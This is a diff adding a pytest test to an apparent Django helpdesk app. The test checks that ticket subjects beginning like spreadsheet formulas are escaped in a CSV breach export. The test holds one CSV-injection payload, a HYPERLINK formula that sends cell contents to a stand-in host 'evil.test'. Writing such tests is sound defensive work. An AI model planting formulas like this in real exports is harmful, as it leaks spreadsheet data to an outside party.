@@ -143,3 +143,18 @@ def test_json_is_plain_data(desk_week):
     assert data["start"] == "2026-11-16T00:00:00Z"
     assert data["first_reply"]["business"] == {"n": 1, "mean": 120.0, "median": 120.0, "p90": 120.0}
     assert data["answered"]["share"] == pytest.approx(1 / 3)
+
+
+def test_csv_cells_that_start_like_formulas_are_escaped(client, agent, desk_week):
+    from sunrelay.desk.models import Ticket
+
+    stuck = desk_week["t4"]
+    formula = '=HYPERLINK("https://evil.test/?"&A1,"Export stuck")'
+    Ticket.objects.filter(pk=stuck.pk).update(subject=formula)
+    client.force_login(agent)
+    response = client.get(f"{PAGE}csv/breaches/", {"week": "2026-W47"})
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    [row] = [r for r in rows if r["ticket"] == str(stuck.pk)]
+    assert row["subject"] == "'" + formula
+    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values())
